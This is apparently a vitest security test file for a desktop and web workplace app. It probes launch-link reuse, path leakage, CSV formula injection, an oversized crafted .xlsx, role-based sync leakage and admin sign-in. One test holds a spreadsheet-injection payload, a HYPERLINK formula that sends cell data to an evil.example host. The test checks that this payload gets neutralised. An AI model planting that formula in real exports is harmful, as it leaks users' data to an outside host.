import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SCHEMA_VERSION } from '../../main/db/migrations';
import { httpTransport } from '../../main/sync/transport';
import { SYNC_PROTOCOL, type RowChange } from '../../shared/sync';
import { craftedXlsx } from '../helpers/crafted-xlsx';
import { startHost, type Host } from '../helpers/host';
import { ADMIN, cleanupTemp, hubTls, PASSWORD, startCenter, type Center, type Client } from '../sync/harness';
import { startPostgres, type TestPostgres } from '../sync/postgres';

/**
 * Desktop-side attack probes (issue 14): a real web host (the built dist, as `npm run web`
 * serves it) and a real hub on a real PostgreSQL. Each test is one attack and fails if it works.
 * Build first: CREWDESK_OUT=… npm run build.
 */

interface Outcome {
  ok: boolean;
  value?: unknown;
  error?: { code: string; message: { zh: string; en: string } };
}

class Browser {
  cookie = '';
  constructor(readonly host: Host) {}
  async open(url = this.host.url): Promise<number> {
    const res = await fetch(url, { redirect: 'manual', headers: this.cookie ? { cookie: this.cookie } : {} });
    const set = res.headers.get('set-cookie');
    if (set) this.cookie = set.split(';')[0]!;
    return res.status;
  }
  async call(name: string, input: unknown): Promise<Outcome> {
    const res = await fetch(`${this.host.origin}/api/call/${name}`, {
      method: 'POST',
      headers: { cookie: this.cookie, 'content-type': 'application/json', origin: this.host.origin },
      body: JSON.stringify(input),
    });
    return (await res.json()) as Outcome;
  }
  async ok<T>(name: string, input: unknown): Promise<T> {
    const r = await this.call(name, input);
    if (!r.ok) throw new Error(`${name}: ${r.error!.message.en}`);
    return r.value as T;
  }
}

describe('the web host', () => {
  let host: Host;
  let browser: Browser;
  const personId = async (name: string): Promise<string> => {
    const people = await browser.ok<{ id: string; name: string }[]>('people.list', { search: name });
    return people.find((p) => p.name === name)!.id;
  };

  beforeAll(async () => {
    host = await startHost({ demo: true });
    browser = new Browser(host);
    expect(await browser.open()).toBe(302);
  });
  afterAll(async () => {
    await host?.stop();
  });

  it('a copy of the launch link used again (another process, another browser) gets 403', async () => {
    const attacker = new Browser(host);
    expect(await attacker.open(host.url)).toBe(403);
    expect(attacker.cookie).toBe('');
    const r = await fetch(`${host.origin}/api/call/workspace.status`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
    expect(r.status).toBe(403);
    // The first browser's cookie keeps working.
    expect((await browser.call('workspace.status', {})).ok).toBe(true);
  });

  it('nobody signed in gets no absolute paths from maintenance.status', async () => {
    const other = new Browser(host);
    const link = (await (await fetch(`${host.origin}/api/launch-link`, { method: 'POST', headers: { cookie: browser.cookie } })).json()) as { url: string };
    expect(await other.open(link.url)).toBe(302);
    const st = await other.ok<{ dataFile: string | null; backupsDir: string | null }>('maintenance.status', {});
    expect(st.dataFile).toBeNull();
    expect(st.backupsDir).toBeNull();
    expect(JSON.stringify(st)).not.toContain(host.dataDir);
  });

  it('a formula as a member’s own name comes out neutralised in the CSV report', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")';
    const me = await personId('王小川');
    await browser.ok('session.signIn', { personId: me });
    await browser.ok('people.update', { id: me, name: formula });
    await browser.ok('session.signIn', { personId: await personId('陈思远') });
    const file = await browser.ok<{ base64: string }>('reports.export', { month: '2026-12', format: 'csv' });
    const text = Buffer.from(file.base64, 'base64').toString('utf8');
    const line = text.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    expect(line.startsWith(`"'=HYPERLINK`)).toBe(true);
    // No line of the file starts a cell with a formula character.
    for (const l of text.replace(/^\uFEFF/, '').split('\r\n')) expect(l).not.toMatch(/^("?)[=+\-@\t\r]/);
  });

  it('the crafted 6 MB .xlsx is refused in under 2 s while the host keeps answering (median under 100 ms, never stalled for 0.5 s)', async () => {
    const crafted = craftedXlsx();
    expect(crafted.length).toBeGreaterThan(6_000_000);
    await browser.ok('session.signIn', { personId: await personId(ADMIN) });
    // Encoded up front, so this process is not busy with it while it measures the host.
    const body = Buffer.from(JSON.stringify({ fileName: '平台数据.xlsx', dataBase64: crafted.toString('base64') }));
    // A lightweight call, one after another, all the while: its latency is the host's event-loop delay (plus HTTP).
    let reading = true;
    const latencies: number[] = [];
    const probe = (async () => {
      while (reading) {
        const t = performance.now();
        await browser.call('workspace.status', {});
        latencies.push(performance.now() - t);
      }
    })();
    const t0 = performance.now();
    const res = await fetch(`${host.origin}/api/call/figures.readFile`, {
      method: 'POST',
      headers: { cookie: browser.cookie, 'content-type': 'application/json', origin: host.origin },
      body,
    });
    const outcome = (await res.json()) as Outcome;
    const took = performance.now() - t0;
    reading = false;
    await probe;
    expect(outcome.ok).toBe(false);
    expect(outcome.error!.code).toBe('VALIDATION');
    expect(outcome.error!.message.en).toMatch(/too large|more than/);
    expect(took).toBeLessThan(2000);
    expect(latencies.length).toBeGreaterThan(3);
    // Parsing the file on the host's event loop would stall every call for seconds. Under a loaded
    // CI machine (two CPU burners) one call now and then takes 150 ms for reasons of its own, so the
    // worst call is held to 0.5 s and the typical one to 100 ms (CI run of 32aa513: worst 149 ms).
    const sorted = [...latencies].sort((a, b) => a - b);
    const median = sorted[sorted.length >> 1]!;
    expect(median).toBeLessThan(100);
    const worst = Math.max(...latencies);
    console.log(`crafted xlsx refused in ${took.toFixed(0)} ms; ${latencies.length} concurrent calls, slowest ${worst.toFixed(1)} ms`);
    expect(worst).toBeLessThan(500);
  });
});

describe('a desktop joined to a hub (real hub, real PostgreSQL)', () => {
  let pgServer: TestPostgres;
  let center: Center;
  let admin: Client;
  let member: Client;
  let manager: Client;
  const NOTE = '手术复查（个人隐私）';

  beforeAll(async () => {
    pgServer = await startPostgres();
    center = await startCenter(pgServer);
    admin = await center.client(ADMIN);
    member = await center.client('王小川');
    manager = await center.client('陈思远');
    await admin.call('timeOff.create', { personId: center.people.get('陈思远')!, kind: 'leave', startDate: '2027-01-04', endDate: '2027-01-06', note: NOTE });
    await admin.call('people.update', { id: center.people.get('宋可欣')!, title: '首席记者' });
    await admin.sync.sync();
  });
  afterAll(async () => {
    await center?.close();
    pgServer?.stop();
    cleanupTemp();
  });

  /** A pull as the hub answers it to `c`'s person, over the wire: a fresh login, a fresh device id. */
  const rawPull = async (c: Client): Promise<RowChange[]> => {
    const hub = { url: center.hubUrl, fingerprint: (await hubTls()).fingerprint };
    const { token } = await httpTransport.login(hub, { login: center.logins.get(c.name) ?? c.name, password: PASSWORD });
    const res = await httpTransport.pull(hub, token, { protocol: SYNC_PROTOCOL, schemaVersion: SCHEMA_VERSION, clientId: randomUUID(), since: 0, pendingFrom: 1 });
    return res.rows;
  };
  /** Activity rows about the people records of others than `name`. */
  const othersPeopleActivity = (rows: RowChange[], name: string) => {
    const me = center.people.get(name)!;
    return rows.filter((r) => {
      if (r.table !== 'activity_log' || !r.data || !['person', 'time_off'].includes(String(r.data.entity_type))) return false;
      if (r.data.entity_id === me) return false;
      return !String(r.data.after ?? r.data.before ?? '').includes(me);
    });
  };

  it('a member’s pull lacks others’ time-off notes and the before/after images of people records', async () => {
    const rows = await rawPull(member);
    expect(JSON.stringify(rows)).not.toContain(NOTE);
    const off = rows.find((r) => r.table === 'time_off' && r.data?.person_id === center.people.get('陈思远'))!;
    expect(off.data).toMatchObject({ note: '', start_date: '2027-01-04', end_date: '2027-01-06' });
    const acts = othersPeopleActivity(rows, '王小川');
    expect(acts.length).toBeGreaterThanOrEqual(5); // the seed's people.create rows, the title change, the time off
    for (const a of acts) expect(a.data).toMatchObject({ before: null, after: null, input: '{}' });
    // The current directory entry (a title) is for everyone; the history of the change is not.
    const change = acts.find((a) => a.data!.command === 'people.update' && a.data!.entity_id === center.people.get('宋可欣'))!;
    expect(change.data).toMatchObject({ before: null, after: null, summary: '修改人员 宋可欣' });
    // …and so the member's desktop never holds them.
    await member.sync.sync();
    const local = member.db.prepare<[], { note: string }>('SELECT note FROM time_off').all();
    expect(local.map((r) => r.note)).toEqual(['']);
    expect(JSON.stringify(member.db.prepare('SELECT * FROM activity_log').all())).not.toContain(NOTE);
  });

  it('a manager’s pull has them; a member promoted to manager gets them on the next sync', async () => {
    expect(JSON.stringify(await rawPull(manager))).toContain(NOTE);
    await admin.call('people.update', { id: center.people.get('王小川')!, role: 'manager' });
    await admin.sync.sync();
    await member.sync.sync();
    expect(member.db.prepare<[], { note: string }>('SELECT note FROM time_off').get()!.note).toBe(NOTE);
    await admin.call('people.update', { id: center.people.get('王小川')!, role: 'member' });
    await admin.sync.sync();
    await member.sync.sync();
    expect(member.db.prepare<[], { note: string }>('SELECT note FROM time_off').get()!.note).toBe('');
  });

  it('signIn as the admin on a member’s synced desktop: refused without, and with a wrong, hub password', async () => {
    const adminId = center.people.get(ADMIN)!;
    const session = { actorId: member.session.actorId };
    const bare = await member.backend.call('session.signIn', { personId: adminId }, session);
    expect(bare.ok).toBe(false);
    expect(!bare.ok && bare.error.code).toBe('FORBIDDEN');
    expect(!bare.ok && bare.error.message.zh).toMatch(/枢纽密码/);
    const wrong = await member.backend.call('session.signIn', { personId: adminId, password: 'guess-1234' }, session);
    expect(wrong.ok).toBe(false);
    expect(session.actorId).toBe(center.people.get('王小川'));
    expect(member.sync.hubPersonId()).toBe(center.people.get('王小川'));
    // Signing in again as the hub account itself needs nothing more.
    const self = await member.backend.call('session.signIn', { personId: center.people.get('王小川')! }, { actorId: null });
    expect(self.ok).toBe(true);
  });

  it('with the admin’s hub password the desktop switches its hub account; offline, a switch is refused', async () => {
    const adminId = center.people.get(ADMIN)!;
    const session = { actorId: member.session.actorId };
    const r = await member.backend.call('session.signIn', { personId: adminId, password: PASSWORD }, session);
    expect(r.ok).toBe(true);
    expect(session.actorId).toBe(adminId);
    expect(member.sync.hubPersonId()).toBe(adminId);
    // The previous person's window no longer acts.
    const stale = await member.backend.call('session.current', {}, member.session);
    expect(stale.ok && (stale.value as { actor: unknown }).actor).toBeNull();
    // The hub now sends this desktop the admin's view.
    expect(member.db.prepare<[], { note: string }>('SELECT note FROM time_off').get()!.note).toBe(NOTE);

    await center.hub.close();
    const offline = await member.backend.call('session.signIn', { personId: center.people.get('王小川')!, password: PASSWORD }, { actorId: null });
    expect(offline.ok).toBe(false);
    expect(!offline.ok && offline.error.message.zh).toMatch(/无法连接枢纽/);
    expect(!offline.ok && offline.error.message.en).toMatch(/cannot be reached/);
    expect(member.sync.hubPersonId()).toBe(adminId);
  });
});
